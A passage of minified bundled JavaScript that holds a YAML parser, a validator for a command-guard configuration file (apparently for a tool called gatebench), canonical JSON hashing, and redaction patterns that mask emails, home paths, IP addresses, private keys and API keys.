`?yield*this.pushCount(2):0}*pushSpaces(e){let s=this.pos-1,r;do r=this.buffer[++s];while(r===" "||e&&r==="	");let n=s-this.pos;return n>0&&(yield this.buffer.substr(
this.pos,n),this.pos=s),n}*pushUntil(e){let s=this.pos,r=this.buffer[s];for(;!e(r);)r=this.buffer[++s];return yield*this.pushToIndex(s,!1)}};aw.Lexer=Nu});var ju=L(lw=>{"use strict";var Du=class{constructor(){this.lineStarts=[],this.addNewLine=e=>this.lineStarts.push(e),this.linePos=e=>{let s=0,r=this.lineStarts.length;
for(;s<r;){let o=s+r>>1;this.lineStarts[o]<e?s=o+1:r=o}if(this.lineStarts[s]===e)return{line:s+1,col:1};if(s===0)return{line:0,col:e};let n=this.lineStarts[s-1];
return{line:s,col:e-n+1}}}};lw.LineCounter=Du});var Mu=L(fw=>{"use strict";var xT=require("process"),cw=Za(),$T=Lu();function Ks(t,e){for(let s=0;s<t.length;++s)if(t[s].type===e)return!0;return!1}function dw(t){
for(let e=0;e<t.length;++e)switch(t[e].type){case"space":case"comment":case"newline":break;default:return e}return-1}function pw(t){switch(t?.type){case"alias":case"\
scalar":case"single-quoted-scalar":case"double-quoted-scalar":case"flow-collection":return!0;default:return!1}}function tl(t){switch(t.type){case"document":return t.
start;case"block-map":{let e=t.items[t.items.length-1];return e.sep??e.start}case"block-seq":return t.items[t.items.length-1].start;default:return[]}}function fn(t){
if(t.length===0)return[];let e=t.length;e:for(;--e>=0;)switch(t[e].type){case"doc-start":case"explicit-key-ind":case"map-value-ind":case"seq-item-ind":case"newl\
ine":break e}for(;t[++e]?.type==="space";);return t.splice(e,t.length)}function sl(t,e){if(e.length<1e5)Array.prototype.push.apply(t,e);else for(let s=0;s<e.length;++s)
t.push(e[s])}function uw(t){if(t.start.type==="flow-seq-start")for(let e of t.items)e.sep&&!e.value&&!Ks(e.start,"explicit-key-ind")&&!Ks(e.sep,"map-value-ind")&&
(e.key&&(e.value=e.key),delete e.key,pw(e.value)?e.value.end?sl(e.value.end,e.sep):e.value.end=e.sep:sl(e.start,e.sep),delete e.sep)}var Wu=class{constructor(e){
this.atNewLine=!0,this.atScalar=!1,this.indent=0,this.offset=0,this.onKeyLine=!1,this.stack=[],this.source="",this.type="",this.lexer=new $T.Lexer,this.onNewLine=
e}*parse(e,s=!1){this.onNewLine&&this.offset===0&&this.onNewLine(0);for(let r of this.lexer.lex(e,s))yield*this.next(r);s||(yield*this.end())}*next(e){if(this.source=
e,xT.env.LOG_TOKENS&&console.log("|",cw.prettyToken(e)),this.atScalar){this.atScalar=!1,yield*this.step(),this.offset+=e.length;return}let s=cw.tokenType(e);if(s)
if(s==="scalar")this.atNewLine=!1,this.atScalar=!0,this.type="scalar";else{switch(this.type=s,yield*this.step(),s){case"newline":this.atNewLine=!0,this.indent=0,
this.onNewLine&&this.onNewLine(this.offset+e.length);break;case"space":this.atNewLine&&e[0]===" "&&(this.indent+=e.length);break;case"explicit-key-ind":case"map\
-value-ind":case"seq-item-ind":this.atNewLine&&(this.indent+=e.length);break;case"doc-mode":case"flow-error-end":return;default:this.atNewLine=!1}this.offset+=e.
length}else{let r=`Not a YAML token: ${e}`;yield*this.pop({type:"error",offset:this.offset,message:r,source:e}),this.offset+=e.length}}*end(){for(;this.stack.length>
0;)yield*this.pop()}get sourceToken(){return{type:this.type,offset:this.offset,indent:this.indent,source:this.source}}*step(){let e=this.peek(1);if(this.type===
"doc-end"&&e?.type!=="doc-end"){for(;this.stack.length>0;)yield*this.pop();this.stack.push({type:"doc-end",offset:this.offset,source:this.source});return}if(!e)
return yield*this.stream();switch(e.type){case"document":return yield*this.document(e);case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-sc\
alar":return yield*this.scalar(e);case"block-scalar":return yield*this.blockScalar(e);case"block-map":return yield*this.blockMap(e);case"block-seq":return yield*this.
blockSequence(e);case"flow-collection":return yield*this.flowCollection(e);case"doc-end":return yield*this.documentEnd(e)}yield*this.pop()}peek(e){return this.stack[this.
stack.length-e]}*pop(e){let s=e??this.stack.pop();if(!s)yield{type:"error",offset:this.offset,source:"",message:"Tried to pop an empty stack"};else if(this.stack.
length===0)yield s;else{let r=this.peek(1);switch(s.type==="block-scalar"?s.indent="indent"in r?r.indent:0:s.type==="flow-collection"&&r.type==="document"&&(s.indent=
0),s.type==="flow-collection"&&uw(s),r.type){case"document":r.value=s;break;case"block-scalar":r.props.push(s);break;case"block-map":{let n=r.items[r.items.length-
1];if(n.value){r.items.push({start:[],key:s,sep:[]}),this.onKeyLine=!0;return}else if(n.sep)n.value=s;else{Object.assign(n,{key:s,sep:[]}),this.onKeyLine=!n.explicitKey;
return}break}case"block-seq":{let n=r.items[r.items.length-1];n.value?r.items.push({start:[],value:s}):n.value=s;break}case"flow-collection":{let n=r.items[r.items.
length-1];!n||n.value?r.items.push({start:[],key:s,sep:[]}):n.sep?n.value=s:Object.assign(n,{key:s,sep:[]});return}default:yield*this.pop(),yield*this.pop(s)}if((r.
type==="document"||r.type==="block-map"||r.type==="block-seq")&&(s.type==="block-map"||s.type==="block-seq")){let n=s.items[s.items.length-1];n&&!n.sep&&!n.value&&
n.start.length>0&&dw(n.start)===-1&&(s.indent===0||n.start.every(o=>o.type!=="comment"||o.indent<s.indent))&&(r.type==="document"?r.end=n.start:r.items.push({start:n.
start}),s.items.splice(-1,1))}}}*stream(){switch(this.type){case"directive-line":yield{type:"directive",offset:this.offset,source:this.source};return;case"byte-\
order-mark":case"space":case"comment":case"newline":yield this.sourceToken;return;case"doc-mode":case"doc-start":{let e={type:"document",offset:this.offset,start:[]};
this.type==="doc-start"&&e.start.push(this.sourceToken),this.stack.push(e);return}}yield{type:"error",offset:this.offset,message:`Unexpected ${this.type} token \
in YAML stream`,source:this.source}}*document(e){if(e.value)return yield*this.lineEnd(e);switch(this.type){case"doc-start":{dw(e.start)!==-1?(yield*this.pop(),yield*this.
step()):e.start.push(this.sourceToken);return}case"anchor":case"tag":case"space":case"comment":case"newline":e.start.push(this.sourceToken);return}let s=this.startBlockValue(
e);s?this.stack.push(s):yield{type:"error",offset:this.offset,message:`Unexpected ${this.type} token in YAML document`,source:this.source}}*scalar(e){if(this.type===
"map-value-ind"){let s=tl(this.peek(2)),r=fn(s),n;e.end?(n=e.end,n.push(this.sourceToken),delete e.end):n=[this.sourceToken];let o={type:"block-map",offset:e.offset,
indent:e.indent,items:[{start:r,key:e,sep:n}]};this.onKeyLine=!0,this.stack[this.stack.length-1]=o}else yield*this.lineEnd(e)}*blockScalar(e){switch(this.type){case"\
space":case"comment":case"newline":e.props.push(this.sourceToken);return;case"scalar":if(e.source=this.source,this.atNewLine=!0,this.indent=0,this.onNewLine){let s=this.
source.indexOf(`
`)+1;for(;s!==0;)this.onNewLine(this.offset+s),s=this.source.indexOf(`
`,s)+1}yield*this.pop();break;default:yield*this.pop(),yield*this.step()}}*blockMap(e){let s=e.items[e.items.length-1];switch(this.type){case"newline":if(this.onKeyLine=
!1,s.value){let r="end"in s.value?s.value.end:void 0;(Array.isArray(r)?r[r.length-1]:void 0)?.type==="comment"?r?.push(this.sourceToken):e.items.push({start:[this.
sourceToken]})}else s.sep?s.sep.push(this.sourceToken):s.start.push(this.sourceToken);return;case"space":case"comment":if(s.value)e.items.push({start:[this.sourceToken]});else if(s.
sep)s.sep.push(this.sourceToken);else{if(this.atIndentedComment(s.start,e.indent)){let n=e.items[e.items.length-2]?.value?.end;if(Array.isArray(n)){sl(n,s.start),
n.push(this.sourceToken),e.items.pop();return}}s.start.push(this.sourceToken)}return}if(this.indent>=e.indent){let r=!this.onKeyLine&&this.indent===e.indent,n=r&&
(s.sep||s.explicitKey)&&this.type!=="seq-item-ind",o=[];if(n&&s.sep&&!s.value){let i=[];for(let a=0;a<s.sep.length;++a){let l=s.sep[a];switch(l.type){case"newli\
ne":i.push(a);break;case"space":break;case"comment":l.indent>e.indent&&(i.length=0);break;default:i.length=0}}i.length>=2&&(o=s.sep.splice(i[1]))}switch(this.type){case"\
anchor":case"tag":n||s.value?(o.push(this.sourceToken),e.items.push({start:o}),this.onKeyLine=!0):s.sep?s.sep.push(this.sourceToken):s.start.push(this.sourceToken);
return;case"explicit-key-ind":!s.sep&&!s.explicitKey?(s.start.push(this.sourceToken),s.explicitKey=!0):n||s.value?(o.push(this.sourceToken),e.items.push({start:o,
explicitKey:!0})):this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:[this.sourceToken],explicitKey:!0}]}),this.onKeyLine=!0;
return;case"map-value-ind":if(s.explicitKey)if(s.sep)if(s.value)e.items.push({start:[],key:null,sep:[this.sourceToken]});else if(Ks(s.sep,"map-value-ind"))this.
stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:o,key:null,sep:[this.sourceToken]}]});else if(pw(s.key)&&!Ks(s.sep,"newline")){
let i=fn(s.start),a=s.key,l=s.sep;l.push(this.sourceToken),delete s.key,delete s.sep,this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[
{start:i,key:a,sep:l}]})}else o.length>0?s.sep=s.sep.concat(o,this.sourceToken):s.sep.push(this.sourceToken);else if(Ks(s.start,"newline"))Object.assign(s,{key:null,
sep:[this.sourceToken]});else{let i=fn(s.start);this.stack.push({type:"block-map",offset:this.offset,indent:this.indent,items:[{start:i,key:null,sep:[this.sourceToken]}]})}else
s.sep?s.value||n?e.items.push({start:o,key:null,sep:[this.sourceToken]}):Ks(s.sep,"map-value-ind")?this.stack.push({type:"block-map",offset:this.offset,indent:this.
indent,items:[{start:[],key:null,sep:[this.sourceToken]}]}):s.sep.push(this.sourceToken):Object.assign(s,{key:null,sep:[this.sourceToken]});this.onKeyLine=!0;return;case"\
alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":{let i=this.flowScalar(this.type);n||s.value?(e.items.push({start:o,key:i,sep:[]}),this.
onKeyLine=!0):s.sep?this.stack.push(i):(Object.assign(s,{key:i,sep:[]}),this.onKeyLine=!0);return}default:{let i=this.startBlockValue(e);if(i){if(i.type==="bloc\
k-seq"){if(!s.explicitKey&&s.sep&&!Ks(s.sep,"newline")){yield*this.pop({type:"error",offset:this.offset,message:"Unexpected block-seq-ind on same line with key",
source:this.source});return}}else r&&e.items.push({start:o});this.stack.push(i);return}}}}yield*this.pop(),yield*this.step()}*blockSequence(e){let s=e.items[e.items.
length-1];switch(this.type){case"newline":if(s.value){let r="end"in s.value?s.value.end:void 0;(Array.isArray(r)?r[r.length-1]:void 0)?.type==="comment"?r?.push(
this.sourceToken):e.items.push({start:[this.sourceToken]})}else s.start.push(this.sourceToken);return;case"space":case"comment":if(s.value)e.items.push({start:[
this.sourceToken]});else{if(this.atIndentedComment(s.start,e.indent)){let n=e.items[e.items.length-2]?.value?.end;if(Array.isArray(n)){sl(n,s.start),n.push(this.
sourceToken),e.items.pop();return}}s.start.push(this.sourceToken)}return;case"anchor":case"tag":if(s.value||this.indent<=e.indent)break;s.start.push(this.sourceToken);
return;case"seq-item-ind":if(this.indent!==e.indent)break;s.value||Ks(s.start,"seq-item-ind")?e.items.push({start:[this.sourceToken]}):s.start.push(this.sourceToken);
return}if(this.indent>e.indent){let r=this.startBlockValue(e);if(r){this.stack.push(r);return}}yield*this.pop(),yield*this.step()}*flowCollection(e){let s=e.items[e.
items.length-1];if(this.type==="flow-error-end"){let r;do yield*this.pop(),r=this.peek(1);while(r?.type==="flow-collection")}else if(e.end.length===0){switch(this.
type){case"comma":case"explicit-key-ind":!s||s.sep?e.items.push({start:[this.sourceToken]}):s.start.push(this.sourceToken);return;case"map-value-ind":!s||s.value?
e.items.push({start:[],key:null,sep:[this.sourceToken]}):s.sep?s.sep.push(this.sourceToken):Object.assign(s,{key:null,sep:[this.sourceToken]});return;case"space":case"\
comment":case"newline":case"anchor":case"tag":!s||s.value?e.items.push({start:[this.sourceToken]}):s.sep?s.sep.push(this.sourceToken):s.start.push(this.sourceToken);
return;case"alias":case"scalar":case"single-quoted-scalar":case"double-quoted-scalar":{let n=this.flowScalar(this.type);!s||s.value?e.items.push({start:[],key:n,
sep:[]}):s.sep?this.stack.push(n):Object.assign(s,{key:n,sep:[]});return}case"flow-map-end":case"flow-seq-end":e.end.push(this.sourceToken);return}let r=this.startBlockValue(
e);r?this.stack.push(r):(yield*this.pop(),yield*this.step())}else{let r=this.peek(2);if(r.type==="block-map"&&(this.type==="map-value-ind"&&r.indent===e.indent||
this.type==="newline"&&!r.items[r.items.length-1].sep))yield*this.pop(),yield*this.step();else if(this.type==="map-value-ind"&&r.type!=="flow-collection"){let n=tl(
r),o=fn(n);uw(e);let i=e.end.splice(1,e.end.length);i.push(this.sourceToken);let a={type:"block-map",offset:e.offset,indent:e.indent,items:[{start:o,key:e,sep:i}]};
this.onKeyLine=!0,this.stack[this.stack.length-1]=a}else yield*this.lineEnd(e)}}flowScalar(e){if(this.onNewLine){let s=this.source.indexOf(`
`)+1;for(;s!==0;)this.onNewLine(this.offset+s),s=this.source.indexOf(`
`,s)+1}return{type:e,offset:this.offset,indent:this.indent,source:this.source}}startBlockValue(e){switch(this.type){case"alias":case"scalar":case"single-quoted-\
scalar":case"double-quoted-scalar":return this.flowScalar(this.type);case"block-scalar-header":return{type:"block-scalar",offset:this.offset,indent:this.indent,
props:[this.sourceToken],source:""};case"flow-map-start":case"flow-seq-start":return{type:"flow-collection",offset:this.offset,indent:this.indent,start:this.sourceToken,
items:[],end:[]};case"seq-item-ind":return{type:"block-seq",offset:this.offset,indent:this.indent,items:[{start:[this.sourceToken]}]};case"explicit-key-ind":{this.
onKeyLine=!0;let s=tl(e),r=fn(s);return r.push(this.sourceToken),{type:"block-map",offset:this.offset,indent:this.indent,items:[{start:r,explicitKey:!0}]}}case"\
map-value-ind":{this.onKeyLine=!0;let s=tl(e),r=fn(s);return{type:"block-map",offset:this.offset,indent:this.indent,items:[{start:r,key:null,sep:[this.sourceToken]}]}}}
return null}atIndentedComment(e,s){return this.type!=="comment"||this.indent<=s?!1:e.every(r=>r.type==="newline"||r.type==="space")}*documentEnd(e){this.type!==
"doc-mode"&&(e.end?e.end.push(this.sourceToken):e.end=[this.sourceToken],this.type==="newline"&&(yield*this.pop()))}*lineEnd(e){switch(this.type){case"comma":case"\
doc-start":case"doc-end":case"flow-seq-end":case"flow-map-end":case"map-value-ind":yield*this.pop(),yield*this.step();break;case"newline":this.onKeyLine=!1;default:
e.end?e.end.push(this.sourceToken):e.end=[this.sourceToken],this.type==="newline"&&(yield*this.pop())}}};fw.Parser=Wu});var yw=L(Co=>{"use strict";var mw=Cu(),_T=bo(),So=ko(),ST=_d(),CT=se(),ET=ju(),hw=Mu();function gw(t){let e=t.prettyErrors!==!1;return{lineCounter:t.lineCounter||
e&&new ET.LineCounter||null,prettyErrors:e}}function AT(t,e={}){let{lineCounter:s,prettyErrors:r}=gw(e),n=new hw.Parser(s?.addNewLine),o=new mw.Composer(e),i=Array.
from(o.compose(n.parse(t)));if(r&&s)for(let a of i)a.errors.forEach(So.prettifyError(t,s)),a.warnings.forEach(So.prettifyError(t,s));return i.length>0?i:Object.
assign([],{empty:!0},o.streamInfo())}function bw(t,e={}){let{lineCounter:s,prettyErrors:r}=gw(e),n=new hw.Parser(s?.addNewLine),o=new mw.Composer(e),i=null;for(let a of o.
compose(n.parse(t),!0,t.length))if(!i)i=a;else if(i.options.logLevel!=="silent"){i.errors.push(new So.YAMLParseError(a.range.slice(0,2),"MULTIPLE_DOCS","Source \
contains multiple documents; please use YAML.parseAllDocuments()"));break}return r&&s&&(i.errors.forEach(So.prettifyError(t,s)),i.warnings.forEach(So.prettifyError(
t,s))),i}function TT(t,e,s){let r;typeof e=="function"?r=e:s===void 0&&e&&typeof e=="object"&&(s=e);let n=bw(t,s);if(!n)return null;if(n.warnings.forEach(o=>ST.
warn(n.options.logLevel,o)),n.errors.length>0){if(n.options.logLevel!=="silent")throw n.errors[0];n.errors=[]}return n.toJS(Object.assign({reviver:r},s))}function PT(t,e,s){
let r=null;if(typeof e=="function"||Array.isArray(e)?r=e:s===void 0&&e&&(s=e),typeof s=="string"&&(s=s.length),typeof s=="number"){let n=Math.round(s);s=n<1?void 0:
n>8?{indent:8}:{indent:n}}if(t===void 0){let{keepUndefined:n}=s??e??{};if(!n)return}return CT.isDocument(t)&&!r?t.toString(s):new _T.Document(t,r,s).toString(s)}
Co.parse=TT;Co.parseAllDocuments=AT;Co.parseDocument=bw;Co.stringify=PT});var kw=L(ae=>{"use strict";var RT=Cu(),IT=bo(),qT=iu(),Fu=ko(),OT=eo(),Ys=se(),NT=Hs(),LT=Re(),DT=zs(),jT=Gs(),WT=Za(),MT=Lu(),FT=ju(),UT=Mu(),rl=yw(),ww=Qn();ae.
Composer=RT.Composer;ae.Document=IT.Document;ae.Schema=qT.Schema;ae.YAMLError=Fu.YAMLError;ae.YAMLParseError=Fu.YAMLParseError;ae.YAMLWarning=Fu.YAMLWarning;ae.
Alias=OT.Alias;ae.isAlias=Ys.isAlias;ae.isCollection=Ys.isCollection;ae.isDocument=Ys.isDocument;ae.isMap=Ys.isMap;ae.isNode=Ys.isNode;ae.isPair=Ys.isPair;ae.isScalar=
Ys.isScalar;ae.isSeq=Ys.isSeq;ae.Pair=NT.Pair;ae.Scalar=LT.Scalar;ae.YAMLMap=DT.YAMLMap;ae.YAMLSeq=jT.YAMLSeq;ae.CST=WT;ae.Lexer=MT.Lexer;ae.LineCounter=FT.LineCounter;
ae.Parser=UT.Parser;ae.parse=rl.parse;ae.parseAllDocuments=rl.parseAllDocuments;ae.parseDocument=rl.parseDocument;ae.stringify=rl.stringify;ae.visit=ww.visit;ae.
visitAsync=ww.visitAsync});var _w={};il(_w,{checkGuardFile:()=>HT,readGuardFile:()=>VT});function VT(t,e){let s=new gt.LineCounter,r=f=>{let{line:m,col:h}=s.linePos(f);return`${e}:${m}:${h}`},
n=(0,gt.parseDocument)(t,{lineCounter:s,prettyErrors:!1,strict:!0,uniqueKeys:!0}),o=n.errors[0]??n.warnings[0];if(o)throw new st(`${r(o.pos[0])}  ${o.message.split(
`
`)[0]}`);let i=(f,m)=>{throw new st(`${r(f?.range?.[0]??0)}  ${m}`)},a=n.contents;if(!(0,gt.isMap)(a))return i(a,'must be a map with "schema: 1"');let l=new Map;
for(let{key:f,value:m}of a.items){let h=(0,gt.isScalar)(f)?String(f.value):"";vw.includes(h)||i(f,`unknown key "${h}"; there are ${vw.join(", ")}`),l.set(h,m)}let c=l.
get("schema");(!(0,gt.isScalar)(c)||c.value!==1)&&i(c??a,'must say "schema: 1"');let d=f=>{let m=l.get(f);return m===void 0?[]:(0,gt.isSeq)(m)?(m.items.length>xw&&
i(m,`${f}: has more than ${xw} entries`),m.items.map(h=>!(0,gt.isScalar)(h)||typeof h.value!="string"?i(h,`${f}: must hold texts`):{name:h.value,place:r(h.range?.[0]??
0)})):i(m,`${f}: must be a list`)},u=l.get("level"),p=pr.find(f=>(0,gt.isScalar)(u)&&u.value===f);return u!==void 0&&p===void 0&&i(u,`level: must be one of ${pr.
join(", ")}`),{level:p,allow:d("allow"),deny:d("deny"),rules:d("rules")}}function HT({allow:t,deny:e},s){let r=new Map(s.map(n=>[n.id,n]));for(let{name:n,place:o}of[
...t,...e])if(!r.has(n)&&!$w.includes(n))throw new st(`${o}  there is no rule "${n}"`,"`gatebench guard --list` prints the rules.");for(let{name:n,place:o}of t){
if(r.get(n)?.severity==="catastrophic")throw new st(`${o}  the rule "${n}" is catastrophic and cannot be allowed`);if($w.includes(n))throw new st(`${o}  "${n}" \
cannot be allowed: what was not read may be catastrophic`);if(e.some(i=>i.name===n))throw new st(`${o}  the rule "${n}" is both allowed and denied`)}}var gt,vw,
xw,$w,Sw=Ue(()=>{"use strict";gt=al(kw(),1);tn();fr();vw=["schema","level","allow","deny","rules"],xw=500,$w=["unreadable-command","unverifiable-command","unpar\
sed-command"]});function BT(t){for(let e=0;e<t.length;e++){let s=t.charCodeAt(e);if(s>=55296&&s<=56319){if(e===t.length-1)return!0;let r=t.charCodeAt(e+1);if(!(r>=56320&&r<=57343))
return!0;e++}else if(s>=56320&&s<=57343)return!0}return!1}function Er(t,e=new Set){if(typeof t=="number"&&isNaN(t))throw new Error("NaN is not allowed");if(typeof t==
"number"&&!isFinite(t))throw new Error("Infinity is not allowed");if(typeof t=="string"&&BT(t))throw new Error("Lone surrogate is not allowed");if(t===null||typeof t!=
"object")return JSON.stringify(t);if(typeof t.toJSON=="function"){if(e.has(t))throw new Error("Circular reference detected");e.add(t);let r=Er(t.toJSON(),e);return e.
delete(t),r}if(e.has(t))throw new Error("Circular reference detected");e.add(t);let s;if(Array.isArray(t))s=`[${t.map(n=>Er(n===void 0||typeof n=="symbol"?null:
n,e)).join(",")}]`;else{let r=[];for(let n of Object.keys(t).sort())t[n]===void 0||typeof t[n]=="symbol"||r.push(`${Er(n)}:${Er(t[n],e)}`);s=`{${r.join(",")}}`}
return e.delete(t),s}var Cw=Ue(()=>{});function Vu(t){if(Uu(t))return JSON.stringify(t);if(Tw(t))return zT(t);if(Array.isArray(t))return`[${t.map(s=>Aw(s)?"null":Vu(s)).join(",")}]`;let e=Er(t);if(e===
void 0)throw new Error("value has no JSON form");return e}function zT(t){let e="";for(let s of Object.keys(t).sort()){let r=t[s];if(!Aw(r)){if(!s.isWellFormed())
throw new Error("Lone surrogate is not allowed");e+=`${e===""?"{":","}${JSON.stringify(s)}:${Vu(r)}`}}return e===""?"{}":`${e}}`}function Uu(t){switch(typeof t){case"\
string":return t.isWellFormed();case"number":return Number.isFinite(t);case"boolean":return!0;case"object":{if(t===null)return!0;if(Array.isArray(t))return t.every(
Uu);if(!Tw(t))return!1;let e;for(let s of Object.keys(t)){if(e!==void 0&&s<e||!s.isWellFormed()||!Uu(t[s]))return!1;e=s}return!0}default:return!1}}function Tw(t){
if(typeof t!="object"||t===null||"toJSON"in t)return!1;let e=Object.getPrototypeOf(t);return e===Object.prototype||e===null}function Hu(t){return(0,Ew.hash)("sh\
a256",t)}function Pw(t){return Hu(Vu(t))}var Ew,Aw,Rw=Ue(()=>{"use strict";Ew=require("node:crypto");Cw();Aw=t=>t===void 0||typeof t=="symbol"});var Bu,Iw=Ue(()=>{"use strict";Bu=({id:t,placeholder:e=`[redacted:${t}#{n}]`},s)=>e.replace("{n}",String(s))});var GT,KT,qw,Ow=Ue(()=>{"use strict";GT="q8Zr2LmX9vKd4TbN7wYc1HsJ6pGf3QeR5aUiOx0B",KT="9f86d081884c7d659a2feaa0c55ad015",qw=t=>t.replace(/\{(random|RANDOM|hex) (\d+)\}/g,
(e,s,r)=>{let n=(s==="hex"?KT:GT).repeat(3).slice(0,Number(r));return s==="RANDOM"?n.toUpperCase():n})});var YT,QT,XT,Nw,Lw=Ue(()=>{"use strict";YT=new Set(["agent app admin build builder circleci codespace coder dev developer docker git jenkins linuxbrew me","name\
 node nobody oracle public root runner runneradmin runner-admin shared default ubuntu user","username users vagrant vscode work workspace you your-name yourname\
 youruser your_user_name"].flatMap(t=>t.split(" "))),QT=/\.(?:png|jpe?g|gif|svg|webp|avif|ico|css|s[ac]ss|less|[cm]?[jt]sx?|json|html?|map|ya?ml|toml|lock|txt|log|xml|service|socket|timer|target|mount|path|plist|tar|gz|tgz|zip|whl|jar|patch|diff|class|java|kt|cpp|hpp)$/i,
XT=/(?:^|[.])(?:example(?:\.(?:com|org|net|edu))?|test|invalid|localhost|local)$/i,Nw=[{id:"email",pattern:/(?<![\w.+%-])[A-Za-z0-9_][\w.+%-]{0,63}@(?:[A-Za-z0-9][A-Za-z0-9-]{0,62}\.){1,5}[A-Za-z]{2,24}(?![\w@-])/g,
hints:["@"],reach:65,accepts:t=>{let[e,s]=t.split("@");return e===""||/^(?:git|noreply|no-reply|this|super|return|break|continue|root|user|you|name|email|someone)$/i.
test(e)||s==="users.noreply.github.com"||XT.test(s)||QT.test(s)?!1:!/^v?\d{1,9}\.\d/.test(s)&&/\.(?:[a-z]+|[A-Z]+)$/.test(s)},examples:{"Ada <ada.lovelace+x@ana\
lytical.engine.org>,":"Ada <[redacted:email#1]>,","mailto:ada@engine.org?subject=x":"mailto:[redacted:email#1]?subject=x","git@github.com:a/b.git":"git@github.c\
om:a/b.git",'"import pytest\\n@pytest.mark\\ndef"':'"import pytest\\n@pytest.mark\\ndef"',"pkg@1.0.0-beta.rc @scope/pkg icon@2x.png getty@tty1.service this@Oute\
r.run x@example.com":"pkg@1.0.0-beta.rc @scope/pkg icon@2x.png getty@tty1.service this@Outer.run x@example.com"}},{id:"home-user",pattern:/(?:(?<![\w.~-])\/(?:home|Users)\/|\b[A-Za-z]:(?:\\{1,4}|\/)Users(?:\\{1,4}|\/))([A-Za-z0-9_][\w.-]{0,63})(?![\w.-]|\*)/g,
hints:["/home/","/Users/","Users\\",":/Users"],reach:6,accepts:t=>!YT.has(t.toLowerCase()),examples:{"/home/ada/project/a.ts":"/home/[redacted:home-user#1]/proj\
ect/a.ts","at file:///Users/ada.l/x":"at file:///Users/[redacted:home-user#1]/x","C:\\Users\\Ada\\x, C:\\\\Users\\\\Ada\\\\x":"C:\\Users\\[redacted:home-user#1]\\x\
, C:\\\\Users\\\\[redacted:home-user#1]\\\\x","/home/agent/x /home/runner/y src/home/page.ts GET /api/Users/7":"/home/agent/x /home/runner/y src/home/page.ts GE\
T /api/Users/7"}},{id:"ip-address",optional:!0,pattern:/(?<![\w.])(?:(?:25[0-5]|2[0-4]\d|1?\d?\d)\.){3}(?:25[0-5]|2[0-4]\d|1?\d?\d)(?![\w.]*\d)|(?<![\w:.])(?:[0-9A-Fa-f]{1,4}:){7}[0-9A-Fa-f]{1,4}(?![\w:.])/g,
accepts:t=>!/^(?:127\.|0\.0\.0\.0$|255\.255|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.)/.test(t),examples:{"from 10.20.30.40:443":"from [redacted:ip-address#1]:44\
3","2a00:1450:4001:81b:0:0:0:200e":"[redacted:ip-address#1]","127.0.0.1 1.2.3.4.5 v1.2.3":"127.0.0.1 1.2.3.4.5 v1.2.3"}}]});function Dw(t){let e=new Map;for(let r of t)e.set(r,(e.get(r)??0)+1);let s=0;for(let r of e.values())s-=r/t.length*Math.log2(r/t.length);return s}function jw(t){
let{least_entropy:e,entropy_above:s,has:r=[],not:n=[],no_end:o}=t;return(i,a)=>o!==void 0&&i.endsWith(o)||n.includes("placeholder")&&ZT.test(i)||e!==void 0&&Dw(
i)<e||s!==void 0&&Dw(i)<=s||!r.every(l=>JT[l].test(i))||n.includes("words")&&eP.test(i)?!1:!(n.includes("local-address")&&tP.test(a))}var JT,ZT,eP,tP,Ww=Ue(()=>{
"use strict";JT={digit:/\d/,letter:/[A-Za-z]/},ZT=/^(?:x{3,}|\*{3,}|\.{3,}|0+|1234567\d*|changeme|change_me|password|passwd|secret|token|none|null|undefined|true|false|example|dummy|test(?:ing)?|fake|sample|placeholder|redacted|your[_-].*|my[_-].*|<.*>|\$\{.*\}|\{\{.*\}\}|\$[A-Z_]+|%\(?.*\)?s?|process\.env.*|os\.environ.*|env\..*)$/i,
eP=/^(?:[$<{%]|https?:\/\/|(?:\.{0,2}|~)\/(?:[\w.-]{1,100}\/)+[\w.-]*$|process\.|os\.|env\.|(?:your|my|test|fake|dummy|example|sample|xxx)[_-])|^[./~@#]{0,3}(?:[A-Za-z]{1,40}|v?\d{1,4})(?:[-_./:@ ]{1,2}(?:[A-Za-z]{1,40}\d{0,4}|v?\d{1,4})){0,30}$/i,
tP=/^[^@]*@(?:localhost|127\.0\.0\.1|\[::1\]|(?:[\w-]+\.){0,20}(?:example(?:\.com|\.org|\.net)?|test|invalid|local))\.?(?![\w.-]|:\/\/)/i});var Mw,Fw=Ue(()=>{"use strict";Mw=JSON.parse(`[{"id":"private-key","patches":"high","pattern":"-----BEGIN (?:[A-Z0-9]{1,20} ){0,3}PRIVATE KEY(?: BLOCK)?-----[A-\
Za-z0-9+/=\\\\s\\\\\\\\n\\"',.:-]{60,20000}","examples":{"finds":["-----BEGIN EC PRIVATE KEY-----\\n{random 40}\\n{random 40}\\n-----END EC PRIVATE KEY-----"],"leaves":["\
-----BEGIN PUBLIC KEY-----"]}},{"id":"private-key","pattern":"-----BEGIN (?:[A-Z0-9]{1,20} ){0,3}PRIVATE KEY(?: BLOCK)?-----((?:(?!-----)[A-Za-z0-9+/=\\\\s\\\\\\\\',.\
:;()-]|\\"[\\\\s+.\\\\\\\\n]{0,20}\\"){60,20000})","texts":{"hints":["-----BEGIN "],"quotes":true},"examples":{"redacts":{"-----BEGIN RSA PRIVATE KEY-----\\n{random 40}\\\
n{random 40}\\n-----END RSA PRIVATE KEY-----\\nand on":"-----BEGIN RSA PRIVATE KEY-----[redacted:private-key#1]-----END RSA PRIVATE KEY-----\\nand on"},"leaves":["\
-----BEGIN PUBLIC KEY-----"]}},{"id":"model-provider-key","pattern":"\\\\b(?:sk-(?:ant-|or-|proj-|svcacct-|admin-)[A-Za-z0-9_-]{20,250}|sk-[A-Za-z0-9]{32,64}|hf_[\
A-Za-z0-9]{30,50}|gsk_[A-Za-z0-9]{40,60}|xai-[A-Za-z0-9]{60,90}|r8_[A-Za-z0-9]{35,45}|pplx-[A-Za-z0-9]{40,60})(?![A-Za-z0-9])","accepts":{"entropy_above":3.2,"h\
as":["digit"]},"texts":{"hints":["sk-","hf_","gsk_","xai-","r8_","pplx-"]},"examples":{"redacts":{"key sk-ant-api03-{random 40}-AA":"key [redacted:model-provide\
r-key#1]","sk-proj-{random 40}":"[redacted:model-provider-key#1]","hf_{random 34}":"[redacted:model-provider-key#1]"},"leaves":["sk-loading-indicator-container-\
